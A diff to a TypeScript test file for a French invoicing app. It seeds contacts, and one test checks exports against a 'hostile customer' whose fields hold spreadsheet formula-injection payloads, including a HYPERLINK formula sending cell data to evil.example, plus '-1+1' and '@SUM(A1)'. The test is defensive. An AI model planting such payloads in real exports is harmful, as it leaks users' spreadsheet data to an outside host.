@@ -90,7 +90,7 @@ function seed(relais: AuthTestApp) {
   const sud = entreprise(relais, '732829320', 'Transports Sud');
   const durand = contact(relais, String(nord.id), { nom: 'Durand', prenom: 'Anne', code: 'DUR', siren: '404833048', email: 'compta@durand.test' });
   const martin = contact(relais, String(nord.id), { nom: 'Martin Logistique', email: 'factures@martin.test' });
-  const sudClient = contact(relais, String(sud.id), { nom: 'Client du Sud' });
+  const sudClient = contact(relais, String(sud.id), { nom: 'Client du Sud', tva_intracom: 'BE0123456789' });
   const nordId = String(nord.id);
   const fa1 = validated(relais, '2026-10-15', { entreprise_id: nordId, contact_id: durand.id, lignes: [ligne(3, 1999), ligne(1, 10_000, 550)] });
   const fa4 = validated(relais, '2026-10-20', { entreprise_id: nordId, contact_id: martin.id, lignes: [ligne(1, 20_000)] });
@@ -235,7 +235,7 @@ describe('every export the PWA downloads, with a hostile customer', () => {
     const relais = authTestApp();
     const docs = seed(relais);
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const pirate = contact(relais, String(docs.nord.id), { nom: hostile, code: '-1+1' });
+    const pirate = contact(relais, String(docs.nord.id), { nom: hostile, code: '-1+1', email: 'pirate@exemple.test' });
     const invoice = validated(relais, '2026-11-20', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, lignes: [ligne(1, 2_500)] });
     validated(relais, '2026-11-21', { entreprise_id: String(docs.nord.id), contact_id: pirate.id, type_facture: 'avoir', facture_origine_id: invoice.id, lignes: [ligne(-1, 1_250)] });
     reglement(relais, invoice, '2026-11-22', 1_500, 'virement', '@SUM(A1)');
